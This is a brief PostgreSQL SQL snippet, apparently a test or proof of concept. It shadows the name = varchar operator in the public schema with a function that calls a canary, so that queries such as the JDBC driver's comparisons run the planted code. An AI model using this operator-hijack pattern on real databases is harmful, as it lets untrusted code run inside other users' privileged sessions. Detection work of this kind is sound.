-- Name = varchar, which is what the JDBC driver sends
-- fire: SELECT 'a'::name = 'a'::varchar
CREATE FUNCTION public.trap(name, varchar) RETURNS boolean LANGUAGE plpgsql  AS $$BEGIN PERFORM canary.spring(); RETURN true; END$$;
CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = varchar, FUNCTION = public.trap);
